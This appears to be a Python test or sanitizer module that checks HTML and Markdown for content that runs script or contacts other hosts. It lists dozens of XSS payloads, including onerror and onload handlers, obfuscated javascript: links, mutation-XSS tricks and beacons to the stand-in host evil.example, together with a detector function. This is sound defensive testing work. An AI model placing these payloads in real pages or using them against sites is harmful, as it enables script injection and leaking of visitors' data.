"""HTML and Markdown that try to run, to send, or to ask another host, and what tells that they did."""

from __future__ import annotations

from collections.abc import Iterator

from lxml import html as lxml_html
from lxml.html import HtmlElement

from generators.reading.links import is_in_kit, is_safe_link

RUNS = {"script", "iframe", "object", "embed", "base", "meta", "link", "style", "math", "template", "animate"}
SENDS = {"style", "ping", "action", "formaction", "srcset", "srcdoc", "xlink:href"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=a.png onerror=alert(1) alt=x>",
    "<svg onload=alert(1)><script>alert(1)</script><path d='M0 0'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><rect/></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<body onload=alert(1)><p onclick=alert(1)>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input type=submit formaction=https://evil.example></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=vbscript:x>x</a><a href=data:text/html,x>x</a><a href=file:///etc/passwd>x</a>",
    "<a ping=https://evil.example href=https://fair.example>x</a>",
    "<img src=https://evil.example/pixel.png alt=x>",
    "<img src=//evil.example/pixel.png alt=x>",
    "<img src='\\\\evil.example/pixel.png' alt=x>",
    "<img src='/\t/evil.example/pixel.png' alt=x>",
    "<img src=data:image/svg+xml,x alt=x>",
    "<img srcset='https://evil.example/pixel.png 2x' alt=x>",
    "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4></video>",
    "<svg><rect fill='url(https://evil.example/p.svg#a)'/></svg>",
    "<svg><image href=https://evil.example/p.png /><use href=https://evil.example/p.svg#a /></svg>",
    "<template><script>alert(1)</script></template>",
    "<p id=__config>{}</p><form id=x><input name=action></form>",
]

MARKDOWN_ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](<java&#115;cript:alert(1)>)",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "text\n{: onclick=alert(1) }",
    "# x {: onclick=alert(1) style='background:url(//evil.example/x)' }",
    "![x](a.png){: onerror=alert(1) }",
    '<div markdown="1" onclick=alert(1)>\n*x* <script>alert(1)</script>\n</div>',
    "```html\n<script>alert(1)</script>\n```\n\n<script>alert(1)</script>",
    "Name: ____\n\n<script>alert(1)</script>",
    "<svg onload=alert(1)>\n</svg>",
]


def elements(html: str) -> Iterator[HtmlElement]:
    for element in lxml_html.fragment_fromstring(html, create_parent="div").iter():
        if isinstance(element.tag, str):
            yield element


def dangers(html: str) -> Iterator[str]:
    """Whatever in ``html`` could run, send, or ask another host."""
    for element in elements(html):
        sends = {"form": element.get("method") != "dialog", "button": element.get("type") != "button"}
        if element.tag in RUNS or sends.get(element.tag):
            yield f"<{element.tag}>"
        yield from (name for name in element.attrib if name.startswith("on") or name in SENDS)
        yield from (value for value in (element.get("src"), element.get("poster")) if value and not is_in_kit(value))
        yield from (value for value in (element.get("href"),) if value and not is_safe_link(value))
        yield from (value for value in (element.get("fill"),) if value and "url" in value)
